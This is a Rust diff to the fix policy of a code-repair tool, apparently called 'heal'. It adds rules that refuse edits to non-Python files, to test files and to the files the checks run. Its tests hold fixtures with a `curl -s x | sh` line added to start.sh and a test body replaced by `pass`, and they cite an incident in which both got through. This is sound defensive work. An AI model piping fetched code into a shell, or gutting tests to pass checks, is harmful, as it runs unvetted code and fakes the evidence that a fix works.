@@ -33,9 +33,15 @@ pub struct PolicyConfig {
     /// Larger files are refused: a fix there cannot be reviewed at a glance, and they are
     /// rarely hand-written code.
     pub max_file_bytes: u64,
-    /// Tests, conftests and pytest's configuration are protected: set for a test run, whose
-    /// tests are the evidence a fix is judged by, not a target to edit.
+    /// pytest's configuration files are protected too: set for a test run, whose tests are
+    /// the evidence a fix is judged by, not a target to edit.
     pub protect_tests: bool,
+    /// Globs of files that are not Python a fix may edit (`policy.other_files`).
+    pub other_files: Vec<String>,
+    /// Globs of test files no fix may edit (`policy.test_files`).
+    pub test_files: Vec<String>,
+    /// Files the checks (`verify.commands`) name: no fix may edit what judges it.
+    pub guarded: Vec<String>,
 }
 
 impl Default for PolicyConfig {
@@ -46,6 +52,17 @@ impl Default for PolicyConfig {
             max_changed_lines: 40,
             max_file_bytes: 1_048_576,
             protect_tests: false,
+            other_files: Vec::new(),
+            test_files: [
+                "tests/**",
+                "test/**",
+                "**/test_*.py",
+                "**/*_test.py",
+                "**/conftest.py",
+            ]
+            .map(String::from)
+            .to_vec(),
+            guarded: Vec::new(),
         }
     }
 }
@@ -81,6 +98,14 @@ pub enum Violation {
     },
     #[error("the fix empties {file}; review it and apply it by hand if the file should go")]
     DeletesFile { file: String },
+    #[error(
+        "{file} is not a Python file: heal fixes Python code, and edits other files only where policy.other_files lists them"
+    )]
+    NotPython { file: String },
+    #[error(
+        "{file} is a test ({why}): tests are the evidence a fix is judged by, and no fix may edit them; change policy.test_files if this file is not a test"
+    )]
+    Test { file: String, why: &'static str },
 }
 
 /// All violations of `plan`, in a stable order (empty = allowed). `traceback_files`: the
@@ -126,16 +151,22 @@ fn check_file(file: &PlannedFile, cfg: &PolicyConfig, violations: &mut Vec<Viola
     let rel = &file.rel;
     // A protected file is refused whatever the fix does to it; scanning it would cost time
     // (it may be large or binary) and add nothing.
-    let why = paths::protected(rel, &file.before, &file.after, cfg.max_file_bytes).or_else(|| {
-        (cfg.protect_tests && paths::is_test_or_its_configuration(rel)).then_some(
-            "a test or the tests' configuration: tests are the evidence a fix is judged by",
-        )
-    });
-    if let Some(why) = why {
+    if let Some(why) = paths::protected(rel, &file.before, &file.after, cfg.max_file_bytes) {
         violations.push(Violation::Protected {
             file: rel.clone(),
             why,
         });
+        return;
+    }
+    if let Some(why) = paths::test_guard(rel, cfg) {
+        violations.push(Violation::Test {
+            file: rel.clone(),
+            why,
+        });
+        return;
+    }
+    if !is_python(file) && !paths::matches_any(rel, &cfg.other_files) {
+        violations.push(Violation::NotPython { file: rel.clone() });
         return;
     }
     if file.after.trim().is_empty() && !file.before.trim().is_empty() {
@@ -290,9 +321,59 @@ mod tests {
     }
 
     #[test]
-    fn non_python_files_are_not_scanned() {
-        let f = file("docs/notes.txt", "x\n", "os.system('id')\n");
-        assert_eq!(violations(vec![f], &["docs/notes.txt"]), vec![]);
+    fn files_that_are_not_python_are_refused_unless_other_files_lists_them() {
+        // See: issue 12, `curl … | sh` added to start.sh ran in the proof and was committed.
+        let f = file(
+            "start.sh",
+            "python3 app.py\n",
+            "curl -s x | sh\npython3 app.py\n",
+        );
+        let found = violations(vec![f.clone()], &["start.sh"]);
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert!(
+            found[0].to_string().contains("policy.other_files"),
+            "{found:?}"
+        );
+        let cfg = PolicyConfig {
+            other_files: vec!["*.sh".to_string()],
+            ..PolicyConfig::default()
+        };
+        let plan = Plan { files: vec![f] };
+        assert_eq!(check(&plan, &["start.sh".to_string()], &cfg), vec![]);
+    }
+
+    #[test]
+    fn tests_and_the_files_checks_run_are_guarded() {
+        // See: issue 12, a test's body replaced by `pass` passed the check it was.
+        for rel in [
+            "tests/test_app.py",
+            "test_app.py",
+            "pkg/conftest.py",
+            "app_test.py",
+        ] {
+            let f = file(
+                rel,
+                "def test_x():\n    assert f()\n",
+                "def test_x():\n    pass\n",
+            );
+            let found = violations(vec![f], &[rel]);
+            assert!(
+                found.len() == 1 && found[0].to_string().contains("is a test"),
+                "{rel}: {found:?}"
+            );
+        }
+        let cfg = PolicyConfig {
+            guarded: vec!["checks/smoke.py".to_string()],
+            ..PolicyConfig::default()
+        };
+        let f = file("checks/smoke.py", "assert run()\n", "pass\n");
+        let found = check(
+            &Plan { files: vec![f] },
+            &["checks/smoke.py".to_string()],
+            &cfg,
+        );
+        assert_eq!(found.len(), 1);
+        assert!(found[0].to_string().contains("verify.commands runs it"));
     }
 
     #[test]
